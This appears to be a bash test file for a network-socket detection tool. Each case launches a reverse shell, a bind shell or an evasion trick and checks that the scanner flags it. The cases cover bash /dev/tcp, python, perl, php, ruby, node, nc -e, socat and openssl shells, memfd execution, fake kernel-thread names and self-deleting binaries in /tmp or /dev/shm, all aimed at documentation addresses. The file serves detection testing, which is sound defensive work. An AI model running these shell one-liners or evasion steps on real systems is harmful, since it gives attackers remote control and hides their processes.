# shellcheck shell=bash
# Attacks: each must raise its flags.  The commands come from cheat sheets, and
# a shell runs them, as intended there.
# shellcheck disable=SC2016,SC2034 # sh -c TEXT; SCAN and FLAG are lab.bash's

# shell_is ADDR [MORE]: waits for a connection to ADDR, with these fields.
shell_is()
{
	await "remote_addr=$1" remote_port=4444 state=ESTABLISHED "${@:2}"
}

attack bash-loopback stdio-socket 'bash -i >& /dev/tcp, to loopback'
run-bash-loopback()
{
	bg $NET listen 127.0.0.1 4444
	await local_port=4444 state=LISTEN
	bg bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
	shell_is 127.0.0.1 process=bash
}

attack bash-private 'shell-net stdio-socket' 'the same, to a private address'
run-bash-private()
{
	hold 4444
	bg bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'
	shell_is 10.0.0.1 process=bash
}

attack bash-public 'shell-net stdio-socket' 'the same, to a public address'
run-bash-public()
{
	hold 4444
	as www-data bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'
	shell_is 203.0.113.1 process=bash user=www-data
}

attack bash-ipv6 'shell-net stdio-socket' 'the same, to a public IPv6 address'
run-bash-ipv6()
{
	hold 4444
	as www-data bash -c 'bash -i >& /dev/tcp/2001:db8::1/4444 0>&1'
	shell_is 2001:db8::1 process=bash
}

attack bash-descriptor 'shell-net stdio-socket' 'bash reads commands from descriptor 5'
run-bash-descriptor()
{
	hold 4444
	as www-data bash -c 'exec 5<>/dev/tcp/198.51.100.1/4444
		cat <&5 | while read -r l; do $l 2>&5 >&5; done'
	shell_is 198.51.100.1 process=cat
	shell_is 198.51.100.1 process=bash
}

attack bash-udp 'shell-net stdio-socket' 'bash -i >& /dev/udp'
run-bash-udp()
{
	hold 4444
	as www-data bash -c 'bash -i >& /dev/udp/203.0.113.1/4444 0>&1'
	shell_is 203.0.113.1 process=bash proto=udp
}

attack root-shell 'root-high-port shell-net stdio-socket' \
	"root's shell, to a public high port"
run-root-shell()
{
	hold 54321
	bg bash -c 'bash -i >& /dev/tcp/203.0.113.1/54321 0>&1'
	await remote_port=54321 state=ESTABLISHED process=bash
}

attack container-shell 'root-high-port shell-net stdio-socket' \
	'a shell in a container (all namespaces scanned)'
run-container-shell()
{
	SCAN=(-N)
	hold 4444
	lab_container "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"
	shell_is 203.0.113.1 process=bash container~docker/ netns~docker/
}

attack zsh 'shell-net stdio-socket' 'zsh: ztcp'
run-zsh()
{
	need zsh
	hold 4444
	as www-data zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444
zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
	shell_is 10.0.0.1 process=zsh fd~0,1,2
}

attack python stdio-socket 'python: dup2 and sh -i, to a private address'
run-python()
{
	hold 4444
	as www-data /usr/bin/python3 -c 'import socket, subprocess, os
s = socket.create_connection(("10.0.0.1", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])'
	shell_is 10.0.0.1 process=sh
}

attack python-pty stdio-socket 'python: dup2 and pty.spawn, to a public address'
run-python-pty()
{
	hold 4444
	as www-data /usr/bin/python3 -c 'import socket, pty, os
s = socket.create_connection(("203.0.113.1", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")'
	shell_is 203.0.113.1 process~python fd=0,1,2,3
}

attack perl 'shell-net stdio-socket' 'perl: open STDIN, exec sh -i'
run-perl()
{
	need perl
	hold 4444
	as www-data perl -e 'use Socket; $i="203.0.113.1"; $p=4444;
socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");
open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
	shell_is 203.0.113.1 process=sh
}

attack perl-loop stdio-socket 'perl: fdopen, system of each line'
run-perl-loop()
{
	need perl
	hold 4444
	as www-data perl -MIO -e '$c=new IO::Socket::INET(
PeerAddr,"10.0.0.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);
system$_ while<>;'
	shell_is 10.0.0.1 process=perl
}

attack php stdio-socket 'php: fsockopen, proc_open of sh'
run-php()
{
	need php
	hold 4444
	as www-data php -r '$s=fsockopen("10.0.0.1",4444);
$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);sleep(60);'
	shell_is 10.0.0.1 process=sh
}

attack lua stdio-socket 'lua: socket.connect, sh with redirections'
run-lua()
{
	need lua5.4 /usr/share/lua/5.4/socket.lua
	hold 4444
	as www-data lua5.4 -e 's=require("socket").connect("10.0.0.1",4444)
n=string.format("%d",s:getfd()) os.execute("/bin/sh -i <&"..n.." >&"..n.." 2>&"..n)'
	shell_is 10.0.0.1 process=sh
}

attack ruby stdio-socket 'ruby: TCPSocket, spawn of sh'
run-ruby()
{
	need ruby
	hold 4444
	as www-data ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1",4444)
spawn("/bin/sh","-i",[:in,:out,:err]=>c); sleep'
	shell_is 10.0.0.1 process=sh
}

attack node stdio-socket 'node: net.connect, spawn of sh'
run-node()
{
	need node
	hold 4444
	as www-data node -e 'const c=require("net").connect(4444,"10.0.0.1",
()=>require("child_process").spawn("/bin/sh",["-i"],{stdio:[c,c,c]}))'
	shell_is 10.0.0.1 process=sh
}

attack nc-e 'shell-net stdio-socket' 'nc.traditional -e /bin/sh'
run-nc-e()
{
	need nc.traditional
	hold 4444
	as www-data nc.traditional -e /bin/sh 203.0.113.1 4444
	shell_is 203.0.113.1 process=sh
}

attack busybox-nc-e 'shell-net stdio-socket' 'busybox nc -e /bin/sh'
run-busybox-nc-e()
{
	need busybox
	hold 4444
	as www-data busybox nc 203.0.113.1 4444 -e /bin/sh
	shell_is 203.0.113.1 process=sh
}

attack nc-bind-e 'shell-net stdio-socket' \
	'nc.traditional -l -e /bin/sh, after someone came'
run-nc-bind-e()
{
	need nc.traditional
	as www-data nc.traditional -l -p 4444 -e /bin/sh
	await local_port=4444 state=LISTEN
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED process=sh
}

attack python-bind 'shell-net stdio-socket' \
	'python: accept, sh on the connection'
run-python-bind()
{
	as www-data /usr/bin/python3 -c 'import socket, subprocess
l = socket.create_server(("", 4444))
while True:
    c = l.accept()[0]
    subprocess.Popen(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=c)
    c.close()'
	await local_port=4444 state=LISTEN
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED process=sh
}

attack perl-bind stdio-socket 'perl: accept, system of each line'
run-perl-bind()
{
	need perl
	as www-data perl -MIO -e '$l=new IO::Socket::INET(LocalPort,4444,
Reuse,1,Listen);$c=$l->accept;$~->fdopen($c,w);STDIN->fdopen($c,r);
system$_ while<>;'
	await local_port=4444 state=LISTEN
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED process=perl fd~0,1
}

attack socat-nofork 'shell-net stdio-socket' 'socat EXEC:/bin/sh,nofork'
run-socat-nofork()
{
	need socat
	hold 4444
	as www-data socat TCP:203.0.113.1:4444 EXEC:/bin/sh,nofork
	shell_is 203.0.113.1 process=sh
}

attack socat-bind nc-listener 'socat TCP-LISTEN,fork EXEC:/bin/sh'
run-socat-bind()
{
	need socat
	as www-data socat TCP-LISTEN:4444,fork,reuseaddr EXEC:/bin/sh
	await local_port=4444 state=LISTEN
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED process=socat
}

attack mkfifo-nc relay-shell 'mkfifo, sh -i and nc (relay-shell enabled)'
run-mkfifo-nc()
{
	need nc.openbsd mkfifo
	FLAG=(--enable=relay-shell)
	hold 4444
	as www-data sh -c 'rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd 203.0.113.1 4444 >/tmp/f'
	shell_is 203.0.113.1 process=nc.openbsd
}

attack ncat-e relay-shell 'ncat -e /bin/bash (relay-shell enabled)'
run-ncat-e()
{
	need ncat
	FLAG=(--enable=relay-shell)
	hold 4444
	as www-data sh -c 'ncat 10.0.0.1 4444 -e /bin/bash; :'
	shell_is 10.0.0.1 process=ncat
}

attack socat-pty relay-shell 'socat EXEC with a pty (relay-shell enabled)'
run-socat-pty()
{
	need socat
	FLAG=(--enable=relay-shell)
	hold 4444
	as www-data sh -c 'socat TCP:203.0.113.1:4444 \
EXEC:"bash -li",pty,stderr,setsid,sigint,sane; :'
	shell_is 203.0.113.1 process=socat
}

attack openssl relay-shell \
	'mkfifo, sh -i and openssl s_client (relay-shell enabled)'
run-openssl()
{
	need openssl
	FLAG=(--enable=relay-shell)
	hold 443
	as www-data sh -c 'mkfifo /tmp/s; /bin/sh -i </tmp/s 2>&1 |
openssl s_client -quiet -connect 203.0.113.1:443 >/tmp/s'
	await remote_port=443 state=ESTABLISHED process=openssl
}

attack tmp-listener tmp-exe 'a listener started from /tmp'
run-tmp-listener()
{
	need nc.openbsd
	copy nc.openbsd /tmp/.x/updated
	as www-data /tmp/.x/updated -l 4444
	await local_port=4444 state=LISTEN
}

attack shm-listener tmp-exe 'a listener started from /dev/shm'
run-shm-listener()
{
	need nc.openbsd
	copy nc.openbsd /dev/shm/updated
	bg /dev/shm/updated -l 4444
	await local_port=4444 state=LISTEN
}

# The mounts of a process decide what its path means.
attack own-mounts tmp-exe \
	'a listener started from /tmp, by the path of another'
run-own-mounts()
{
	need nc.openbsd
	unshare -rm true 2>/dev/null || lab_skip 'needs user namespaces'
	copy nc.openbsd /tmp/.x/updated
	as www-data unshare -rm sh -c 'mount --bind /tmp/.x/updated \
		/usr/bin/env && exec env -l 4444'
	await local_port=4444 state=LISTEN
}

attack tmp-public tmp-exe 'a program in /var/tmp with a public connection'
run-tmp-public()
{
	need nc.openbsd
	hold 443
	copy nc.openbsd /var/tmp/.cache/miner
	as lab /var/tmp/.cache/miner -d 198.51.100.1 443
	await remote_port=443 state=ESTABLISHED
}

attack memfd 'fake-daemon memfd-exe' 'a listener whose program is a memfd'
run-memfd()
{
	need nc.openbsd
	as www-data /usr/bin/python3 -c 'import os
fd = os.memfd_create("x")
os.write(fd, open("/usr/bin/nc.openbsd", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["sshd", "-l", "4444"])'
	await local_port=4444 state=LISTEN
}

attack tmp-script tmp-exe 'python runs /tmp/x.py, which listens'
run-tmp-script()
{
	cp $LAB/lib/net.py /tmp/x.py
	as www-data /usr/bin/python3 /tmp/x.py listen 0.0.0.0 4444
	await local_port=4444 state=LISTEN
}

attack tmp-script-cwd tmp-exe 'python runs x.py in /tmp (scanned with cwd)'
run-tmp-script-cwd()
{
	SCAN=(-o +cwd)
	cp $LAB/lib/net.py /tmp/x.py
	as www-data sh -c 'cd /tmp && exec /usr/bin/python3 x.py \
listen 0.0.0.0 4444'
	await local_port=4444 state=LISTEN
}

attack deleted deleted-exe 'a binary that was deleted while it listens'
run-deleted()
{
	need nc.openbsd
	copy nc.openbsd /opt/agent/agentd
	bg /opt/agent/agentd -l 4444
	await local_port=4444 state=LISTEN
	rm /opt/agent/agentd
}

attack deleted-tmp 'deleted-exe fake-kthread tmp-exe' \
	'a miner in /dev/shm that deletes itself'
run-deleted-tmp()
{
	need nc.openbsd
	hold 3333
	copy nc.openbsd /dev/shm/.x/kdevtmpfsi
	as www-data /dev/shm/.x/kdevtmpfsi -d 198.51.100.1 3333
	await remote_port=3333 state=ESTABLISHED
	rm /dev/shm/.x/kdevtmpfsi
}

attack fake-kworker fake-kthread 'perl calls itself [kworker/0:1] and listens'
run-fake-kworker()
{
	need perl
	bg perl -MIO::Socket::INET -e '$0="[kworker/0:1]";
$l=new IO::Socket::INET(LocalPort,4444,Listen,1);$l->accept;sleep 60'
	await local_port=4444 state=LISTEN
}

attack fake-argv fake-kthread 'only argv says [kworker/u8:2]'
run-fake-argv()
{
	need nc.openbsd
	copy nc.openbsd /opt/agent/agentd
	bg bash -c 'exec -a "[kworker/u8:2]" /opt/agent/agentd -k -l 4444'
	await local_port=4444 state=LISTEN
}

attack nc-listen nc-listener 'nc -l on a wildcard'
run-nc-listen()
{
	need nc.openbsd
	as lab nc.openbsd -k -l 4444
	await local_port=4444 state=LISTEN
}

attack busybox-nc nc-listener 'busybox nc -l on a wildcard'
run-busybox-nc()
{
	need busybox
	as lab busybox nc -l -p 4444
	await local_port=4444 state=LISTEN
}

attack ncat-listen nc-listener 'ncat -lk on a private address'
run-ncat-listen()
{
	need ncat
	as lab ncat -lk 10.0.0.2 4444
	await local_port=4444 state=LISTEN
}

attack redis exposed-store 'redis-server on 0.0.0.0'
run-redis()
{
	redis_on 0.0.0.0
}

attack memcached exposed-store 'memcached on any address, TCP and UDP'
run-memcached()
{
	need memcached
	as nobody memcached -p 11211 -U 11211
	await local_port=11211 state=LISTEN
	await local_port=11211 state=UNCONN
}

attack root-high root-high-port 'root to a public high port'
run-root-high()
{
	hold 54321
	bg $NET connect 203.0.113.1 54321
	await remote_port=54321 state=ESTABLISHED
}

attack python-443 script-sensitive 'python listens on 443'
run-python-443()
{
	bg $NET listen 0.0.0.0 443
	await local_port=443 state=LISTEN
}

attack login-port nonroot-privileged \
	'a login account listens on 25, by a capability'
run-login-port()
{
	need nc.openbsd
	copy nc.openbsd /opt/mail/smtpd
	may_bind 1500 /opt/mail/smtpd -k -l 25
	await local_port=25 state=LISTEN user=lab
}

attack ssh-proxy proxy-listener 'ssh -D on any address'
run-ssh-proxy()
{
	sshd_peer
	as lab ssh "${SSH[@]}" -N -g -D 1080 lab@203.0.113.1
	await local_port=1080 state=LISTEN process=ssh
}

attack ssh-forward proxy-listener 'ssh -L on any address'
run-ssh-forward()
{
	sshd_peer
	as lab ssh "${SSH[@]}" -N -g -L 8022:10.0.0.1:22 lab@203.0.113.1
	await local_port=8022 state=LISTEN process=ssh
}

attack proxy-port proxy-listener "socks' port on any address"
run-proxy-port()
{
	copy nc.openbsd /opt/socks/socksd
	as nobody /opt/socks/socksd -k -l 1080
	await local_port=1080 state=LISTEN
}

attack widened bind-widened 'a bind is wider than at the last scan'
run-widened()
{
	need nginx
	nginx_on 127.0.0.1:8080
	await local_port=8080 state=LISTEN
	before
	kill "$NGINX"
	wait "$NGINX"
	nginx_on 8080
	await local_port=8080 state=LISTEN
}

attack widened-store 'bind-widened exposed-store' \
	'redis, on loopback at the last scan'
run-widened-store()
{
	need redis-server
	redis_on 127.0.0.1
	before
	kill "$REDIS"
	wait "$REDIS"
	redis_on 0.0.0.0
}

attack other-binary other-exe \
	"another binary behind a daemon's port and name (a rule over prt-diff)"
run-other-binary()
{
	need nginx nc.openbsd
	FLAG=(-e 'flag other-exe change=changed was~exe= process=nginx')
	nginx_on 8080
	await local_port=8080 state=LISTEN
	before
	kill "$NGINX"
	wait "$NGINX"
	copy nc.openbsd /opt/lib/nginx
	bg /opt/lib/nginx -k -l 8080
	await local_port=8080 state=LISTEN exe=/opt/lib/nginx
}
